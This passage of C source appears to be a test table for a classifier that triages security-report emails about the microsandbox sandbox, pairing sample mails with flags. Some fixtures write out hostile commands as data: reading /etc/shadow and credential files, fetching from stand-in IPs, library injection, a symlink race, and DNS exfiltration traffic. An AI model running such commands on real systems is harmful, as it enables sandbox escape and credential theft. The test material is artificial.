	{ "Kumusta,\n\nGusto ko lang po magtanong tungkol sa inyong produkto at sa presyo nito ngayong taon. "
	  "Maraming salamat po sa inyong oras at pasensya sa amin.\n", 0, 0, 0 },
	{ "Hello,\n\nWe keep our own binary and its checksum in the same bucket as the docs suggest, and "
	  "it has been working fine for us. Thanks for the nice tool and for keeping the release notes "
	  "tidy.\n", 0, 0, 0 },
	{ "Hei,\n\nKun kaksi sandboxia käynnistetään samasta imagesta, ne jakavat saman /var/cache-hakemiston. "
	  "Toisen asiakkaan työ näkee siis ensimmäisen sandboxin tiedostot ja voi muuttaa niitä.\n", 1, 0, 0 },
	{ "Hello,\n\nI hope you are well and that the week is going fine for everyone. I wanted to reach out "
	  "about something I noticed last week while working. Let me know when you have time to talk about it.\n", 0, 0, 0 },
	/* questions ask, they do not report; English prose that only names the
	 * system is no description (blind round 11, #3) */
	{ "Hello,\n\nI'm writing a feature about the sandboxes that companies use for AI agents, and "
	  "microsandbox comes up a lot in my interviews with engineers.\n\n1. Has microsandbox ever received "
	  "a report of a sandbox escape, and how did you handle it?\n2. Are attackers exploiting any of "
	  "these bugs?\n", 0, 0, 0 },
	{ "Hi,\n\nCould an attacker in the guest read host files through the broker? The broker follows "
	  "symlinks, so a process in the guest can read files on the host outside the share.\n", 1, 0, 0 },
	/* English asked in questions is still English, and "sandboxing" is
	 * the practice, not a second sandbox: a course request that names
	 * sandboxing and a sandbox boundary describes nothing (blind round 25) */
	{ "Dear team,\n\nNext semester I would like to use microsandbox in a lab session on sandboxing "
	  "and show students your published advisories as case studies of how a sandbox boundary is "
	  "reviewed. Could you tell me whether that is fine with you, and whether there is a preferred "
	  "way to cite them?\n", 0, 0, 0 },
	/* a mail that says it asks and does not report describes nothing,
	 * whatever escape it asks about; a hardening suggestion that says it
	 * is no vulnerability still describes what is lacking (blind round 20) */
	{ "Hello,\n\nDoes the runc container escape through a leaked file descriptor affect microsandbox? "
	  "An attacker in a container could reach the host's files through the leaked descriptor, "
	  "so our auditors want to know. I am not reporting a problem, just asking.\n", 0, 0, 0 },
	{ "Hello,\n\nAn attacker in a container could reach the host's files through a leaked "
	  "descriptor, because msb does not close it before exec. I am not reporting this publicly "
	  "until you have a fix.\n", 1, 0, 0 },
	/* a request for permission before any research says there is no
	 * finding yet; "not found anything in the docs" is no such statement
	 * (blind round 22) */
	{ "Dear team,\n\nMy thesis will evaluate sandbox escape and isolation bypass attacks between "
	  "co-located tenants. I have not found anything yet; before I start, do you offer a safe harbor?\n",
	  0, 0, 0 },
	{ "Hello,\n\nI have not found anything about this in the docs, but a process in the guest can "
	  "read files on the host outside the share because the broker follows symlinks.\n", 1, 0, 0 },
	/* a complaint that says it reports no bug in the software (abuse
	 * from cloud accounts) describes nothing; a report that only is not
	 * a bug in one place still does (blind round 27) */
	{ "Hello,\n\nSandboxes on your hosted service keep attacking our web servers and mining "
	  "coins with every free account anyone signs up for. We are not reporting a vulnerability "
	  "in your product, only the abuse; please suspend those accounts.\n", 0, 0, 0 },
	{ "Hello,\n\nThe guest can read host files through the broker because it follows symlinks. "
	  "I am not reporting a bug in the SDK itself: the broker in msb is the problem.\n", 1, 0, 0 },
	/* output under a bullet of an indented list */
	{ PROSE "  * Response from step 3 (trimmed):\n\n      HTTP/2 200\n      content-type: application/json\n", 1, -1, 1 },
	{ "Namaste,\n\nagentd frame length check nahi karta, isliye guest ka koi bhi process host par "
	  "memory corrupt kar sakta hai aur shayad code bhi chala sakta hai.\n", 1, 0, 0 },
	/* short quoted terms are named, not claimed: a sales mail ranking for
	 * "sandbox escape" reports nothing; quotes beside a claim change
	 * nothing (blind round 15, #3) */
	{ "Hello team,\n\nYour site is not ranking on Google for keywords like \"sandbox escape\", "
	  "\"AI code execution\" and \u201csecure sandbox\u201d. We can fix the broken links and the "
	  "missing meta tags; our packages start at USD 299 per month.\n", 0, 0, 0 },
	{ "Hello team,\n\nThe \"--isolated\" flag is documented as \"no traffic to other sandboxes\", "
	  "but an attacker in sandbox B can still reach every port of sandbox A and read its data.\n",
	  1, 0, 0 },
	/* a secret scanner's record (gitleaks, a scanning platform) is tool
	 * output; a config line naming a rule is not (blind round 17) */
	{ PROSE "4. Evidence\nrule:     generic-api-key\nfile:     docs/quickstart.md\nline:     48\n"
	  "entropy:  3.91\n", 1, 0, 1 },
	{ PROSE "The deny rule: block-all-egress is set in the config.\n", 1, 0, 0 },
	/* round 28: a danda ends a sentence, so two Hindi sentences about the
	 * system describe it; a mail that says it reports nothing describes
	 * nothing, unless the statement goes on; Event Viewer XML and a
	 * terminal's output are logs */
	{ "नमस्ते,\n\nजब दो sandbox एक ही image से शुरू होते हैं, तो वे /var/cache निर्देशिका साझा करते हैं। "
	  "दूसरे ग्राहक का काम पहले sandbox की फ़ाइलें देख सकता है और उन्हें बदल सकता है।\n", 1, 0, 0 },
	/* (#3) the Ethiopic full stop ends an Amharic sentence as the danda
	 * does; sentences that name nothing of the system describe nothing */
	{ "ሰላም፣\n\nሁለት sandbox ከአንድ image ሲጀመሩ የ/var/cache ማውጫን ይጋራሉ። "
	  "የአንዱ ደንበኛ ኮድ የሌላውን sandbox ፋይሎች ማንበብና መቀየር ይችላል። "
	  "ብዙ ደንበኞች ባሉበት አገልግሎታችን ላይ ይህ ትልቅ አደጋ ነው ብዬ አስባለሁ።\n", 1, 0, 0 },
	{ "ሰላም፣\n\nስለ ጥሩ ስራችሁ በጣም በጣም እናመሰግናለን ብለን መጻፍ ፈለግን። "
	  "መልካም ቀን ይሁንላችሁ ሁላችሁም በዚህ ሳምንት ደግሞ። "
	  "ከተማችን ውስጥ ያሉ ተማሪዎች ሁሉ ሰላምታ ይልካሉ ብለን ደግመን እንጽፋለን።\n", 0, 0, 0 },
	{ "Hello,\n\nWe embed microsandbox in our service. Because a sandbox escape or an isolation "
	  "bypass would affect our customers directly, we would like to join a pre-disclosure list. "
	  "We are not reporting any issue at this time.\n", 0, 0, 0 },
	{ "Hello,\n\nI am not reporting a theoretical issue: an attacker in the guest can write files "
	  "on the host, because the broker follows symlinks in the share.\n", 1, 0, 0 },
	{ PROSE "Event Viewer, Security log (XML view):\n\n"
	  "<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\">\n"
	  "  <System>\n    <EventID>4688</EventID>\n  </System>\n</Event>\n", 1, -1, 1 },
	{ PROSE "Alice's terminal:\n\n  [msb] sandbox build removed\n  DEPLOY_TOKEN=dummy-77\n", 1, -1, 1 },
	/* round 30: a script quoted over several lines (`sh -c '`) is part of
	 * its command, not its output; output after the quote closes is; a
	 * measurement table under text labels is output; plain words for
	 * what an attacker gains */
	{ PROSE "  msb run alpine -- sh -c '\n    apk add curl >/dev/null\n    curl -sk https://203.0.113.10/ && echo ip-ok\n  '\n", 1, 1, 0 },
	{ PROSE "  msb run alpine -- sh -c '\n    cat /etc/hostname\n  '\n  sbx-a\n", 1, 1, 1 },
	{ PROSE "  condition          n     median   p5\n  B read the file    1003  8.7 us   7.9 us\n"
	  "  B did not read     997   411 us   362 us\n", 1, -1, 1 },
	/* (1443) a measurement table of two columns is output when its cells
	 * are plainly measured (counts of three digits or more, thousands
	 * grouped, values with a unit); two release numbers per row are not */
	{ PROSE "Write latency per page state, ns:\n\n  state              mean     max\n"
	  "  shared page       11,204   15,877\n  private page         298      512\n", 1, -1, 1 },
	{ PROSE "Time to first byte:\n\n  warm cache     1.8 ms    2.4 ms\n  cold cache    14.2 ms   19.9 ms\n", 1, -1, 1 },
	{ PROSE "Our machines:\n\n  build-01     22.04     0.10.6\n  build-02     24.04     0.10.7\n", 1, -1, 0 },
	/* (1417) looking at how a binary is signed or linked (codesign -d,
	 * otool -L, ldd) is a review's evidence, no reproduction; re-signing
	 * the binary in an attack still is one */
	{ PROSE "$ codesign -dvvv /Applications/Msb.app/Contents/MacOS/msb-vmm 2>&1 | grep flags\n"
	  "CodeDirectory v=20500 size=9012 flags=0x10000(runtime) hashes=270+7 location=embedded\n"
	  "$ otool -L /Applications/Msb.app/Contents/MacOS/msb-vmm\n"
	  "\t/usr/lib/libSystem.B.dylib (compatibility version 1.0.0)\n", 1, 0, 1 },
	{ PROSE "$ ldd /usr/bin/msb-vmm | grep krun\n\tlibkrun.so.1 => /usr/lib/libkrun.so.1 (0x00007f1c2a000000)\n", 1, 0, -1 },
	{ PROSE "$ cp /usr/local/bin/msb-vmm /tmp/x\n$ codesign -f -s - /tmp/x\n"
	  "$ DYLD_INSERT_LIBRARIES=/tmp/hook.dylib /tmp/x --run-guest\n", 1, 1, -1 },
	/* (1585) Windows' look at a signature (Get-AuthenticodeSignature,
	 * signtool verify, sigcheck) is evidence too; signing one is not */
	{ PROSE "PS C:\\Temp> Get-AuthenticodeSignature C:\\Tools\\msb-setup.exe | Select Status\n\n"
	  "Status\n------\nNotSigned\n\n"
	  "C:\\Temp> signtool verify /pa /v C:\\Tools\\msb.exe\n"
	  "SignTool Error: No signature found.\n", 1, 0, 1 },
	{ PROSE "PS C:\\lab> Set-AuthenticodeSignature .\\evil.ps1 -Certificate $cert\n"
	  "PS C:\\lab> msb run --image alpine -- sh /mnt/evil.ps1\n", 1, 1, -1 },
	{ "Hi,\n\nThe console never checks that the account accepting an invitation is the one it was "
	  "sent to, so whoever gets the link joins with the invited role and can start, read and delete "
	  "everything we have.\n", 1, 0, 0 },
	/* round 38: an unindented JSON object one blank line below an output
	 * heading is output; below a sentence that is no heading it is not
	 * (a config shown as the setup); printed environment under a line
	 * ending on "showed ... :" */
	{ PROSE "Response of the second page (trimmed):\n\n{\n  \"data\": [],\n  \"has_more\": true\n}\n", 1, -1, 1 },
	{ PROSE "We start every sandbox with this config:\n\n{\n  \"image\": \"alpine\",\n  \"network\": \"none\"\n}\n", 1, -1, 0 },
	{ PROSE "this is what the cell printing os.environ showed in her sandbox:\n\n  HOME=/root\n  PGPASSWORD=dummy\n", 1, -1, 1 },
	/* round 39: browser steps run together after "Steps:" (not two actions
	 * in passing); a dependency alert's path with versions is tool output;
	 * a published image replaced under its tag that everyone pulling gets */
	{ PROSE "Steps: log in as a Billing member, go to Sandboxes, click on a sandbox, click Terminal.\n", 1, 1, 0 },
	{ PROSE "Steps: I log in and go to Sandboxes like every day.\n", 1, 0, 0 },
	/* numbered steps run together in one paragraph after a steps heading,
	 * whatever each item starts with (1380); not a fix's steps, nor an
	 * impact list, nor a version number in the text */
	{ PROSE "To reproduce: (1) have one commit accepted upstream; (2) fork and change the test "
	  "script to write a marker file in the home directory; (3) push again a week later and read "
	  "the marker back.\n", 1, 1, 0 },
	{ PROSE "Pasos: 1) una cuenta sin permisos crea el sandbox; 2) otra cuenta lo abre y ve los "
	  "ficheros del primero.\n", 1, 1, 0 },
	{ PROSE "Schritte: (1) Volume schreibgesch\u00fctzt einh\u00e4ngen, (2) im Gast eine Datei "
	  "darauf l\u00f6schen.\n", 1, 1, 0 },
	{ PROSE "Suggested steps: (1) make the runners ephemeral; (2) require approval for every "
	  "outside contributor.\n", 1, 0, 0 },
	{ PROSE "Impact: (1) code runs on the release builder; (2) a signed release can be replaced.\n",
	  1, 0, 0 },
	{ PROSE "Steps: 1. upgrade to msb 0.2. and nothing else changed.\n", 1, 0, 0 },
	/* (#3) the writer's own numbered run after "we:" or "what I did:";
	 * a plan or a wish after "we would:" is none */
	{ PROSE "On a throwaway fork we: 1. set a fake registry token as a secret; 2. opened a "
	  "draft change from a second user; 3. saw the job print the token.\n", 1, 1, 0 },
	{ PROSE "What I did: (1) mounted the share read-only, (2) deleted a file on it from the guest.\n",
	  1, 1, 0 },
	{ PROSE "As a fix we would: (1) pin the runner image; (2) drop the registry token.\n", 1, 0, 0 },
	/* (#3) the writer's own actions told in one run of prose, the last after
	 * "then": a reproduction; tries and looks around are none */
	{ PROSE "What we did: created an org key, revoked it in the console, then called the API with it and "
	  "still got a list back.\n", 1, 1, 0 },
	{ PROSE "I uploaded a file to the share, renamed it to a link, then restarted the sandbox.\n", 1, 1, 0 },
	{ PROSE "I tried a few things, looked around, then gave up for the day.\n", 1, 0, 0 },
	{ PROSE "  tar  <6.2.1\n  Dependency path: microsandbox@0.8.2 > tar@6.1.15\n", 1, 0, 1 },
	{ PROSE "We depend on microsandbox 0.8.2 and tar 6.1.15.\n", 1, 0, 0 },
	{ "Hey,\n\nafter I pulled your image this morning my laptop fan went crazy. Inside the container "
	  "there is a process that isn't msb. Looks like someone pushed a new image to the tag, so everyone "
	  "pulling latest gets it.\n", 1, 0, 0 },
	/* round 37: `id` output under a heading and a blank line; a sentence
	 * ending on "which prints" over a block; an msb command in parentheses
	 * in a bullet; "the command:" before an msb command (not before an
	 * environment query); "If you want to see it:" over numbered steps;
	 * plain words for what others can see; questions before adopting the
	 * project describe nothing */
	/* round 45: steps under "How I checked it:"; a proxy's flow lines; a
	 * pasted scanner report (not its URLs: no PoC) */
	{ PROSE "How I checked it:\n\n1. Build a tarball with another binary.\n2. Serve it from a local directory.\n"
	  "3. Run the installer against it.\n", 1, 1, 0 },
	{ PROSE "  127.0.0.1:51722: GET https://msb.example:7443/v1/sandboxes/sbx-1/exec/ws\n"
	  "      Upgrade: websocket\n   << 101 Switching Protocols 0b\n", 1, -1, 1 },
	{ PROSE "ZAP Scanning Report\n\nMedium: Missing Anti-clickjacking Header\nURL: https://console.example/login\n"
	  "CWE Id: 1021\nWASC Id: 15\nPlugin Id: 10020\n", 1, 0, 1 },
	{ PROSE "What the last step printed:\n\nuid=1007(kuba) gid=1007(kuba) euid=0(root) groups=1007(kuba)\n", 1, -1, 1 },
	/* (1576) ping's reply lines are output; a sentence about ping is not */
	{ PROSE "From the second sandbox:\n\nPING 10.0.2.15 (10.0.2.15) 56(84) bytes of data.\n64 bytes from 10.0.2.15: icmp_seq=1 ttl=64 time=0.211 ms\n", 1, -1, 1 },
	{ PROSE "It answers ping: 64 bytes from the other sandbox each time, in under a millisecond.\n", 1, -1, 0 },
	{ PROSE "    print(sb.run(\"sh -c 'echo $PAY_KEY'\").stdout)\n\nwhich prints\n\n    pk_live_0000DUMMY\n", 1, -1, 1 },
	{ PROSE "- Student 2 got his copy (msb snapshot restore clean-nov --name s2) and found her files.\n", 1, 1, 0 },
	{ PROSE "- I always start it (msb run alpine) first.\n", 1, 0, 0 },
	{ PROSE "the command: msb run --memory 2g python:3.12 -- python load.py\n", 1, 1, 0 },
	{ PROSE "the command: msb --version\n", 1, 0, 0 },
	{ PROSE "If you want to see it:\n1. Log in to the dashboard as a normal user.\n2. Open Sandboxes.\n"
	  "3. Change the number after /orgs/ by one and press enter.\n", 1, 1, 0 },
	/* (#3) steps under the writer saying he could do it again ("We were
	 * able to reproduce it ...:"), and web-console steps that start with
	 * inviting a member; not under a failed attempt, not a list of advice */
	{ PROSE "We were able to reproduce it on a fresh organisation:\n\n1. Create a member with the Auditor role.\n"
	  "2. As that member, go to Settings > Keys.\n3. The Revoke button works and the key is gone.\n", 1, 1, -1 },
	{ PROSE "I reproduced it with a second account like this:\n\n1. A Billing member is needed.\n"
	  "2. The Keys page shows a Revoke button to them.\n3. Pressing it removes the key.\n", 1, 1, -1 },
	{ PROSE "I wasn't able to reproduce it on a fresh organisation:\n\n1. The role list looked right.\n"
	  "2. The Revoke button was greyed out.\n3. Nothing changed.\n", 1, 0, -1 },
	{ PROSE "Here is what happens.\n\n1. Invite a second account as a Billing member.\n2. Sign in as that account.\n"
	  "3. Open the API keys page and click Create.\n4. A new admin key is listed.\n", 1, 1, -1 },
	{ PROSE "What we would change.\n\n1. Invite reviewers from the security team early.\n2. Document the Viewer role.\n"
	  "3. Audit the role checks.\n", 1, 0, -1 },
	/* round 46: numbered actions at the keyboard with no heading over
	 * them are the steps; a numbered list of recommendations is not; the
	 * number at the end of an address changed to another one */
	{ PROSE "He found this on our family PC.\n\n1. Log in as a standard user\n"
	  "2. Right-click the icon by the clock > Open logs folder\n"
	  "3. In that window's address bar type cmd and press Enter\n"
	  "4. Log out and in again, the account is now an admin\n", 1, 1, 0 },
	/* a numbered form with no heading over it does not hide the steps
	 * under one of its own items ("4. Steps to reproduce:") */
	{ PROSE "1. Product version: 0.8.0\n\n2. Host platform: macOS 14.6.1\n\n"
	  "3. Steps to reproduce:\n   a. msb run --name warm alpine -- sh -c 'echo k > /tmp/k; rm /tmp/k'\n"
	  "   b. msb snapshot create warm --name snap\n   c. msb snapshot restore snap --name other\n\n"
	  "4. Logs: none kept, step c printed the key.\n\n5. Credit: no, thank you.\n", 1, 1, -1 },
	/* (#3) numbered steps that are shell commands typed as the steps
	 * themselves, with a physical step beside them, under a lead line
	 * that is no reproduction heading */
	{ PROSE "I checked this on an old machine:\n\n1. Boot an Ubuntu installer stick.\n"
	  "2. sudo cryptsetup status /dev/sda2\n3. cp /media/disk/home/ana/.msb/token.json /tmp/\n"
	  "4. cat /tmp/token.json\n", 1, 1, 0 },
	{ PROSE "Here is what happens on my desktop:\n\n1. sudo chmod 777 /var/run/msbd.sock\n"
	  "2. python3 /tmp/talk.py /var/run/msbd.sock\n3. Watch the daemon start a root shell.\n", 1, 1, 0 },
	/* ... the same commands listed as a fix are no run of the writer's;
	 * nor are queries of the environment alone */
	{ PROSE "Suggested fix for the packagers:\n\n1. sudo chown root:root /usr/lib/msb\n"
	  "2. sudo chmod 755 /usr/lib/msb\n3. chmod 644 /usr/lib/msb/*.so\n", 1, 0, 0 },
	{ PROSE "My machine:\n\n1. uname -r\n2. sw_vers -productVersion\n3. ls /usr/local/lib\n", 1, 0, 0 },
	{ PROSE "What I would change:\n\n1. Validate the path before use.\n2. Drop the privileges of the service.\n"
	  "3. Document the behaviour.\n", 1, 0, 0 },
	{ PROSE "The address ends in /billing/invoices/10482. If I change that number to 10481 I get "
	  "a different company's invoice.\n", 1, 1, 0 },
	{ "Hello,\n\nToday I changed the number in the address and it showed me a list of sandboxes that "
	  "are not ours, from another company. I expect they can see ours the same way.\n", 1, 0, 0 },
	{ "Hello,\n\nOur IT teacher wants to use microsandbox in lessons so that pupils can run their own "
	  "programs safely, not on the school network, and the board asked me to find out a bit more "
	  "before we agree. Has it had an independent review?\n", 0, 0, 0 },
	/* round 35: a question about an advisory's fix that says it has
	 * nothing new to report describes nothing, though it names an escape */
	{ "Hello,\n\nYour recent advisory about a guest escaping to the host through a shared volume "
	  "says the fix is only in 0.8.4. Is there any plan to backport that fix to 0.7.x?\n\n"
	  "We have nothing new to report, we only want to plan our upgrade.\n", 0, 0, 0 },
	/* round 34: an output heading hard-wrapped over two lines is read
	 * whole (and its negation with it); one whole `ls -l` line is pasted
	 * output; "which gave:" announces output; a mail withdrawing an
	 * earlier one because nothing was wrong describes nothing */
	{ PROSE "Here is what the check script printed on my\ncomputer:\n\n    by name:      blocked\n"
	  "    by address:   reached\n", 1, -1, 1 },
	{ PROSE "I did not save what the check script printed on my\nscreen:\n\n    by name:      blocked\n"
	  "    by address:   reached\n", 1, -1, 0 },
	{ PROSE "The cache file is writable by every sandbox:\n\n"
	  "  -rw-rw-rw- 1 root root 64928 Nov 24 10:12 requests-2.32.3-py3-none-any.whl\n", 1, -1, 1 },
	{ PROSE "I listed the archive, which gave:\n\n      412  2026-11-20 03:14   init.pth\n", 1, -1, 1 },
	{ "Hi,\n\nOn Tuesday I wrote that my sandbox could still reach the internet even though "
	  "networking was off. Please ignore that email, it was my mistake: my own command switched "
	  "networking back on, so an attacker gains nothing.\n", 0, 0, 0 },
	/* round 40: a mail that says it asks rather than reports may say so
	 * in a question, which the prose drops: [description.not] reads the
	 * body as written; a cmd.exe command with a Windows path is a PoC */
	{ "Hello,\n\nI maintain the microsandbox package in a Linux distribution. Could our security "
	  "team and I be added to your pre-notification list before you publish advisories? That would "
	  "let us have fixed packages ready on the disclosure date: last year a sandbox escape fix "
	  "reached us only on that day, so attackers could exploit unpatched packages for a week.\n", 0, 0, 0 },
	{ PROSE "Anyone at the desk can just type\n\n  type %USERPROFILE%\\.microsandbox\\credentials\n\n"
	  "in a command prompt.\n", 1, 1, 0 },
	/* a command run, written inside a sentence of a long unwrapped line:
	 * in backticks, in quotes, or after a colon to the sentence's end;
	 * a flag named in passing or a sentence that starts with a command
	 * is none */
	{ PROSE "For the school lab I started the guest with `msb run --network none alpine -- wget -qO- "
	  "http://198.51.100.7/` and the page still came back, so the pupils' code is online.\n", 1, 1, 0 },
	{ PROSE "Our handbook tells the pupils to use \xe2\x80\x9cmsb exec lab1 -- cat /srv/share/key.txt\xe2\x80\x9d "
	  "and it shows the teacher's key too.\n", 1, 1, 0 },
	{ PROSE "The gateway is easy to fool: msb exec build -- sh -c \"wget -qO- http://198.51.100.7/\" prints "
	  "the page. We use msb every day for marking.\n", 1, 1, 0 },
	{ PROSE "We use msb every day and `msb run --no-net` is in our handbook for the pupils.\n", 1, 0, 0 },
	{ PROSE "What goes wrong: msb run --network none still reaches other hosts on the school LAN.\n", 1, 0, 0 },
	{ PROSE "Our scanner flags urllib3 and `pipdeptree --reverse --packages urllib3 --warn silence` says "
	  "the SDK brings it in.\n", 1, 0, 0 },
	/* PowerShell and cmd.exe print a blank line between the command and
	 * its output; a sentence below the blank is no output (a look at a
	 * signature is no PoC, 1585) */
	{ PROSE "PS C:\\Users\\kim\\Downloads> Get-AuthenticodeSignature .\\msb.exe\n\n"
	  "SignerCertificate      Status        Path\n-----------------      ------        ----\n"
	  "                       NotSigned     msb.exe\n", 1, 0, 1 },
	{ PROSE "C:\\Users\\kim>icacls C:\\ProgramData\\msb\n\nC:\\ProgramData\\msb Everyone:(OI)(CI)(F)\n", 1, 1, 1 },
	{ PROSE "PS C:\\Users\\kim> msb run --volume C:\\:/host alpine\n\n"
	  "After that the guest could list my whole drive.\n", 1, 1, 0 },
	/* round 42: a zsh prompt with the directory after a space (macOS's
	 * default); installing one pinned release into an empty folder */
	{ PROSE "leo@family-imac ~ % msb run --volume /Library/LaunchDaemons:/mnt alpine -- true\n"
	  "leo@family-imac ~ % ls -ld /Library/LaunchDaemons\n", 1, 1, -1 },
	{ PROSE "When I ran npm install microsandbox@0.8.6 in an empty folder, the install printed a download line.\n", 1, 1, -1 },
	{ PROSE "I installed it with npm install microsandbox@0.8.6 for our website last spring.\n", 1, 0, -1 },
	/* round 47: a document's numbered sections with no blank line between
	 * them (a PDF's text): the indented block under an output heading is
	 * output, though it sits in a list item; under another item it is the
	 * item's text */
	{ PROSE "1. Steps\nStart the sandbox and probe the host:\n    msb run --network none alpine -- ip -6 addr\n"
	  "2. Observed output\n    2: eth0: <BROADCAST,MULTICAST,UP> mtu 1500\n        inet6 fe80::5c3a:9dff/64 scope link\n"
	  "3. Expected behaviour\nNo interface.\n", 1, 1, 1 },
	{ PROSE "1. Steps\nStart the sandbox and probe the host:\n    msb run --network none alpine -- ip -6 addr\n"
	  "2. Expected behaviour\n    no interface at all, or one that\n    drops every packet\n", 1, 1, 0 },
	/* issue #3: what a reproduction printed, under a lead-in in any words
	 * (a line ending in a colon after a command or code), not only under
	 * the words of [logs.output-heading]; never under one that announces
	 * the environment, the docs or the impact, nor before any command */
	{ PROSE "I ran it in the guest:\n    msb exec w -- ls /data/../.ssh\nThe guest saw this:\n\n    id_ed25519\n    known_hosts\n", 1, 1, 1 },
	{ PROSE "    sb = Sandbox.create(image=\"nope\", api_key=KEY)\n\nHere's what happened:\n\n"
	  "StartError: image pull failed (api_key=msb_live_DUMMY0000, image=nope)\n", 1, -1, 1 },
	{ PROSE "    sb = Sandbox.restore(snapshot_id=\"snap-1\")\n    print(sb.fs.list(\"/tmp\"))\n\nThe call answered with:\n\n"
	  "['invoice-2026-11.pdf', 'acme-payroll.csv']\n", 1, 1, 1 },
	{ PROSE "    msb run --volume /:/host alpine -- cat /host/etc/shadow\n\nNa konsoli dostałem:\n\n    root:*:19874:0:99999:7:::\n", 1, 1, 1 },
	{ PROSE "    msb run --network none alpine -- ip -6 addr\n\nEnvironment:\n\n    Ubuntu 24.04 LTS\n    kernel 6.8.0-49-generic\n", 1, 1, 0 },
	{ PROSE "    msb run --network none alpine -- ip -6 addr\n\nThe docs say:\n\n    Secrets passed via env are never logged.\n", 1, 1, 0 },
	{ PROSE "    msb run --network none alpine -- ip -6 addr\n\nWhy it matters:\n\n    Anyone who can read the build log gets the key.\n", 1, 1, 0 },
	{ PROSE "What I noticed:\n\n    the share stays writable\n    after a remount\n", 1, 0, 0 },
	/* issue #3: an msb command written bare in the middle of a sentence,
	 * with a path given to an option or a shell line's marks; a flag
	 * named in passing is none */
	{ PROSE "I started the sandbox with msb run --volume ~/share:/data:ro alpine and then listed ../.ssh through the share.\n", 1, 1, 0 },
	{ PROSE "To see it, just run msb run --network none alpine -- wget -qO- http://192.0.2.7/ and watch the page come back.\n", 1, 1, 0 },
	{ PROSE "Starting it as msb run --network none alpine still resolves names over DNS, which defeats the point.\n", 1, 0, 0 },
	/* issue #3: under an output heading a machine-made line is output,
	 * whatever its format; the heading may open with its output word and
	 * go on at length; a printed object opens with a bracket alone under
	 * a lead-in.  A writer's words under such a heading are none */
	{ PROSE "    await sb.run(\"upload\")\n\nResponse:\n\nok=false err=quota_exceeded used=512MiB limit=256MiB\n", 1, -1, 1 },
	{ PROSE "    const r = await sb.exec(\"id\");\n    console.log(r);\n\nResult, on the second laptop we tried (the first one stayed clean):\n\n"
	  "```\n{\n  exitCode: 0,\n  stdout: 'uid=0(root) gid=0(root)'\n}\n```\n", 1, 1, 1 },
	{ PROSE "    const r = await sb.exec(\"id\");\n    console.log(r);\n\nWhat my terminal showed afterwards:\n\n"
	  "```\n{\n  exitCode: 0,\n  stdout: 'uid=0(root) gid=0(root)'\n}\n```\n", 1, 1, 1 },
	{ PROSE "WARNING:app.sync:retrying upload id=42 with key=sk-DUMMY\nWARNING:app.sync:gave up after 5 tries\n", 1, -1, 1 },
	{ PROSE "    msb run --network none alpine -- ip -6 addr\n\nResult:\n\nroot on the host\n", 1, 1, 0 },
	{ PROSE "    msb run --network none alpine -- ip -6 addr\n\nResponse from the vendor, in short:\n\nWe will look at it next week.\n", 1, 1, 0 },
	/* issue #3: a look at the environment or the configuration reproduces
	 * nothing: any program asked for its version, the product's version
	 * line in a list, a service's unit and the processes; a decisive step
	 * kept back leaves the rest without a reproduction */
	{ PROSE "Environment:\n\n    $ qemu-system-x86_64 --version\n    QEMU emulator version 8.2.2\n", 1, 0, 0 },
	{ PROSE "Versions we compared on the same host:\n\n    firecracker 1.9.1\n    microsandbox 0.8.7\n", 1, 0, 0 },
	{ PROSE "    $ systemctl status msbd\n    msbd.service - microsandbox daemon\n    $ ps -eo user,cmd | grep [m]sb\n"
	  "    root  /usr/bin/msbd\n", 1, 0, -1 },
	/* (#3, 2247) a service's sandboxing and privileges audited
	 * (systemd-analyze security, capsh --print, getpcaps, sestatus) are
	 * a hardening review's look, logs, no PoC; capsh running a program
	 * with capabilities dropped, or a command of the product's after the
	 * audit, still reproduces */
	{ PROSE "Our agent's unit as it ships:\n\n    $ systemd-analyze security agentd.service | tail -2\n"
	  "    \u2717 PrivateDevices=      Service potentially has access to hardware devices  0.2\n"
	  "    \u2192 Overall exposure level for agentd.service: 9.2 UNSAFE\n", 1, 0, 1 },
	{ PROSE "    # capsh --print | grep Current\n    Current: =ep\n    # getpcaps $(pidof msbd)\n    1337: =ep\n"
	  "    # sestatus\n    SELinux status:                 disabled\n", 1, 0, -1 },
	{ PROSE "    $ sudo capsh --drop=cap_sys_admin -- -c 'msb run --name x alpine -- mount -t tmpfs none /mnt'\n", 1, 1, -1 },
	{ PROSE "    $ systemd-analyze security msbd.service | tail -1\n    Overall exposure level: 9.6 UNSAFE\n"
	  "    $ msb exec t -- sh -c 'cat /proc/1/root/etc/shadow'\n    root:*:19700:0:99999:7:::\n", 1, 1, -1 },
	/* (#3, 2213) the same look in a loop or under watch(1), catching a
	 * state while it lasts, is still a look; a loop that changes
	 * something (the racer itself) reproduces */
	{ PROSE "I kept an eye on the lock file while the daemon restarted:\n\n"
	  "    $ while true; do ls -l --time-style=+%s /run/agent/agent.lock 2>/dev/null; done | sort -u\n"
	  "    -rw-rw-rw- 1 root root 0 1900000000 /run/agent/agent.lock\n", 1, 0, 1 },
	{ PROSE "    $ watch -n 0.5 'stat -c %a /var/lib/msb/images'\n    777\n", 1, 0, -1 },
	{ PROSE "    $ while :; do ln -sf /etc/shadow /tmp/msb-upload/x; done &\n    $ msb cp t:/upload/x ./x\n", 1, 1, -1 },
	{ PROSE "I would rather not send the exact trigger sequence over plain mail; ask and I will share it.\n\n"
	  "    $ msb run --name t alpine -- sh\n", 1, 0, -1 },
	/* issue #3: commands that only watch or look at the host (a capture,
	 * sockets, the journal, a file's mode, the routes, a program's help)
	 * show the evidence, not its cause: a log, no PoC, also when the
	 * script that caused it is only announced as attached */
	{ PROSE "While the guest job ran I watched the uplink from the host:\n\n"
	  "    $ sudo tshark -i wlp2s0 -f 'udp port 53'\n    1 0.000000 192.0.2.10 -> 198.51.100.53 DNS 84 Standard query A aGVsbG8.x.example\n"
	  "    2 0.010233 192.0.2.10 -> 198.51.100.53 DNS 84 Standard query A d29ybGQ.x.example\n\n"
	  "The exfil helper (leak.py) is attached to this mail.\n", 1, 0, 1 },
	{ PROSE "What the host looked like afterwards:\n\n    $ sudo ss -tunp | grep msb\n"
	  "    udp  ESTAB 0 0 192.0.2.10:41000 198.51.100.53:53 users:((\"msb-net\",pid=4242,fd=9))\n"
	  "    $ journalctl -u msbd --since today | tail -n 3\n    Nov 03 10:00:01 h msbd[4242]: egress allowed proto=udp dst=198.51.100.53\n", 1, 0, 1 },
	{ PROSE "Our review of the install, for the record:\n\n    $ stat -c '%a %U' /var/lib/msb/images\n    777 root\n"
	  "    $ getfacl /etc/msb\n    user::rwx\n    $ ip route show\n    default via 192.0.2.1 dev eth0\n"
